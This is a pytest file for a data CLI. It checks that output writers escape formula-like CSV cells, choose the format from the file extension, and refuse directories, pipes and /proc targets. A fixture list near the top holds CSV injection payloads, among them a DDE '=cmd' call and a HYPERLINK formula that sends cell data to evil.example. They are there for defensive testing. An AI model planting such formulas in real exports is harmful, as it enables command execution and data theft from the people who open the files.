"""Every ``--to``/``--out`` writer of the command line (issue 19, defects 6 and 10; issue 14, wrong 4):
the extension names the format or the run is refused, formula-like CSV cells are escaped (OWASP), folders,
devices, pipes and ``/proc`` paths are refused with one line, files get the umask's mode."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import polars as pl
import pytest

from lab.cli import main
from lab.outputs import csv_safe

UDATA_SAMPLE = Path("datagouv_pipeline_fixtures") / "test_reuses_catalog.csv"
IQAIR = Path("iqair_danang") / "aqi_da-nang_2025_may.csv"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out = capsys.readouterr()
    return code, out.out, out.err


def one_line_error(code: int, err: str, *words: str) -> None:
    assert code == 2, err
    assert err.count("\n") == 1 and err.startswith("error: ") and "Traceback" not in err, err
    for word in words:
        assert word in err, (word, err)


# ------------------------------------------------------------------------------------------ CSV cells
def test_csv_safe_escapes_every_formula_start_and_leaves_numbers() -> None:
    frame = pl.DataFrame(
        {
            "text": [*FORMULAS, "-12,5", "+84", "-", "ok = fine", "1e-3"],
            "n": [-1] * 12,
            "tags": [["=x", "y"]] * 12,
        }
    )
    safe = csv_safe(frame)
    assert safe["text"].to_list() == [
        *(f"'{f}" for f in FORMULAS),
        "-12,5",
        "+84",
        "-",
        "ok = fine",
        "1e-3",
    ]
    assert safe["n"].to_list() == [-1] * 12  # numbers are numbers
    assert safe["tags"][0] == "'=x; y"


def test_geo_assign_writes_formula_cells_as_text(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "points.csv"
    rows = "".join(
        f'{i};108.2208;16.0678;"{f.replace(chr(34), chr(34) * 2)}"\n' for i, f in enumerate(FORMULAS)
    )
    src.write_text("id;lon;lat;note\n" + rows, encoding="utf-8")
    out = tmp_path / "assigned.csv"
    args = ["geo", "assign", "--points", str(src), "--lon", "lon", "--lat", "lat", "--units"]
    code, _, err = run(capsys, *args, "danang-wards-2025", "--to", str(out), "--mirror", str(shared_data))
    assert code == 0, err
    written = pl.read_csv(out, infer_schema=False)
    assert written["note"].to_list() == [f"'{f}" for f in FORMULAS]
    assert written["lon"].to_list() == ["108.2208"] * len(FORMULAS)  # data cells unchanged
    assert written["unit_name"].unique().to_list() == ["Phường Hải Châu"]


def test_reuse_import_escapes_a_formula_title(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = tmp_path / "reuses-2025.csv"
    text = (shared_data / UDATA_SAMPLE).read_text(encoding="utf-8")
    export.write_text(text.replace('"cadastre.data.gouv.fr "', '"=HYPERLINK(""http://x.example"")"'), "utf-8")
    out = tmp_path / "registry.csv"
    code, _, err = run(capsys, "reuse", "import", "--format", "udata-csv", str(export), "--out", str(out))
    assert code == 0, err
    assert pl.read_csv(out, infer_schema=False)["title"][0] == '\'=HYPERLINK("http://x.example")'


# ------------------------------------------------------------------------------------------ formats
def test_load_to_writes_the_format_its_extension_names(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = str(shared_data / IQAIR)
    as_csv, as_parquet = tmp_path / "aq.csv", tmp_path / "aq.parquet"
    assert run(capsys, "load", "air-quality-iqair", "--source", src, "--to", str(as_csv))[0] == 0
    assert run(capsys, "load", "air-quality-iqair", "--source", src, "--to", str(as_parquet))[0] == 0
    assert not as_csv.read_bytes().startswith(b"PAR1") and as_parquet.read_bytes()[:4] == b"PAR1"
    from_csv, from_parquet = pl.read_csv(as_csv), pl.read_parquet(as_parquet)
    assert from_csv.height == from_parquet.height == 706 and from_csv.columns == from_parquet.columns
    bad = tmp_path / "aq.xlsx"
    code, _, err = run(capsys, "load", "air-quality-iqair", "--source", src, "--to", str(bad))
    one_line_error(code, err, "aq.xlsx", ".csv", ".parquet")
    assert not bad.exists()


def test_load_spatial_to_geojson_or_geoparquet_not_csv(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "wards.geojson"
    args = ["load", "danang-wards-2025", "--mirror", str(shared_data)]
    assert run(capsys, *args, "--to", str(out))[0] == 0
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == 94
    code, _, err = run(capsys, *args, "--to", str(tmp_path / "wards.csv"))
    one_line_error(code, err, "wards.csv", "spatial", ".geojson")
    assert not (tmp_path / "wards.csv").exists()


def test_crosswalk_out_of_another_format_is_refused_before_any_work(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ["geo", "crosswalk", str(tmp_path / "missing.csv"), "--from", "2024", "--to", "2025"]
    code, _, err = run(capsys, *args, "--value", "total", "--out", str(tmp_path / "x.xlsx"))
    one_line_error(code, err, "x.xlsx", ".csv")


def test_reuse_import_out_parquet_is_parquet(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = str(shared_data / UDATA_SAMPLE)
    summaries = []
    for name in ("registry.parquet", "registry.csv", "registry.yaml"):
        out = tmp_path / name
        assert run(capsys, "reuse", "import", "--format", "udata-csv", export, "--out", str(out))[0] == 0
        code, printed, err = run(capsys, "reuse", "summary", "--registry", str(out), "--json")
        assert code == 0, err
        summaries.append(json.loads(printed))
    assert (tmp_path / "registry.parquet").read_bytes()[:4] == b"PAR1"
    assert pl.read_parquet(tmp_path / "registry.parquet")["datasets"].dtype == pl.List(pl.String)
    assert summaries[0] == summaries[1] == summaries[2] and summaries[0]["links"] == 7
    code, _, err = run(
        capsys, "reuse", "import", "--format", "udata-csv", export, "--out", str(tmp_path / "r.json")
    )
    one_line_error(code, err, "r.json", ".parquet")
    assert not (tmp_path / "r.json").exists()


# ------------------------------------------------------------------------------------------ targets
def _writers(shared_data: Path, tmp_path: Path) -> dict[str, list[str]]:
    points = tmp_path / "points.csv"
    points.write_text("id;lon;lat\n1;108.2208;16.0678\n", encoding="utf-8")
    census = str(shared_data / "census2019" / "VN_Population_ward_danang_quangnam.csv")
    mirror = ["--mirror", str(shared_data)]
    return {
        "load --to": ["load", "air-quality-iqair", "--source", str(shared_data / IQAIR), "--to"],
        "geo assign --to": [
            *["geo", "assign", "--points", str(points), "--lon", "lon", "--lat", "lat"],
            *["--units", "danang-wards-2025", *mirror, "--to"],
        ],
        "geo crosswalk --out": [
            *[
                "geo",
                "crosswalk",
                census,
                "--from",
                "2024",
                "--to",
                "2025",
                "--value",
                "total",
                *mirror,
                "--out",
            ],
        ],
        "reuse import --out": [
            "reuse",
            "import",
            "--format",
            "udata-csv",
            str(shared_data / UDATA_SAMPLE),
            "--out",
        ],
    }


@pytest.mark.parametrize("kind", ["folder", "pipe", "link to a pipe", "proc"])
@pytest.mark.parametrize(
    "writer", ["load --to", "geo assign --to", "geo crosswalk --out", "reuse import --out"]
)
def test_non_regular_targets_are_refused_with_one_line(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], writer: str, kind: str
) -> None:
    """(``/dev/full`` itself is checked in test_atomic.py without writing: run as root, the unfixed code
    replaced the device node.)"""
    target = tmp_path / "out.csv"
    if kind == "folder":
        target.mkdir()
    elif kind == "pipe":
        os.mkfifo(target)
    elif kind == "link to a pipe":
        os.mkfifo(tmp_path / "fifo")
        target.symlink_to(tmp_path / "fifo")
    else:
        target = Path("/proc/self/out.csv")
    code, _, err = run(capsys, *_writers(shared_data, tmp_path)[writer], str(target))
    one_line_error(code, err, str(target))
    if kind == "folder":
        assert target.is_dir() and not any(target.iterdir())
    elif kind == "pipe":
        assert stat.S_ISFIFO(target.lstat().st_mode)
    elif kind == "link to a pipe":
        assert target.is_symlink()
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")]
    assert leftovers == []


@pytest.mark.parametrize("writer", ["load --to", "geo crosswalk --out", "reuse import --out"])
def test_outputs_get_the_umasks_mode(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], writer: str
) -> None:
    target = tmp_path / "out.csv"
    old = os.umask(0o022)
    try:
        code, _, err = run(capsys, *_writers(shared_data, tmp_path)[writer], str(target))
    finally:
        os.umask(old)
    assert code == 0, err
    assert stat.S_IMODE(target.stat().st_mode) == 0o644


def test_folder_outputs_refuse_files_and_system_paths(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_file = tmp_path / "afile"
    a_file.write_text("keep", encoding="utf-8")
    code, _, err = run(capsys, "demo", "--out", "/proc/lab-demo", "--scale", "0.001")
    one_line_error(code, err, "/proc/lab-demo", "system folder")
    code, _, err = run(capsys, "reports", "run", "--out", str(a_file))
    one_line_error(code, err, str(a_file), "not a folder")
    for target in (tmp_path, tmp_path / "catalog.json"):  # a catalog is YAML; refused before any request
        code, _, err = run(
            capsys, "portal", "harvest", "--out", str(target), "--base-url", "http://127.0.0.1:9"
        )
        one_line_error(code, err, str(target), ".yaml")
    assert a_file.read_text(encoding="utf-8") == "keep"
